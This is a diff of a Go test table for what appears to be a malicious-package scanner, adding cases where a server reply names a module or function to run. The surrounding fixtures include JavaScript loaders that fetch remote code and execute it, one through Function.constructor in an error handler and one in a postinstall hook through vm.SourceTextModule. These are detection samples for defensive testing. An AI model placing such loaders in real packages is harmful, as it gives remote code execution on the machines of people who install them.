@@ -57,6 +57,10 @@ exports.sync = async (u) => { const next = await get(u || "` + url + `"); if (ne
 		// the response reaches the Function through an error handler
 		{"error_handler_loader", map[string]string{"index.js": `const axios = require("axios"); const run = (e) => { const mk = (c) => new (Function.constructor)("require", c); mk(e)(require) }
 module.exports = async () => { try { await axios.get(url) } catch (err) { run(err.response.data.cookie) } }`}, finding.SeverityCritical},
+		// the server names the module and the function: a remote-control
+		// loop; a plugin of the package's own named by a reply is not it
+		{"require_named_by_reply", map[string]string{"index.js": `const https = require("https"); https.get("https://m.example.invalid/v1/d", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => { const d = JSON.parse(b); require(d.m)[d.f](...d.a) }) })`}, finding.SeverityCritical},
+		{"require_own_plugin_named_by_reply", map[string]string{"index.js": `const https = require("https"); https.get("https://m.example.invalid/v1/d", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => { const d = JSON.parse(b); require("./plugins/" + d.name).init() }) })`}, finding.SeverityNone},
 		// an ES module fetched at install and linked with vm
 		{"source_text_module_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node p.mjs"}}`,
 			"p.mjs": "import vm from 'node:vm'; const res = await fetch('https://ipfs.io/ipfs/bafy/p.mjs'); const src = await res.text(); const m = new vm.SourceTextModule(src); await m.link(() => {}); await m.evaluate()"}, finding.SeverityCritical},
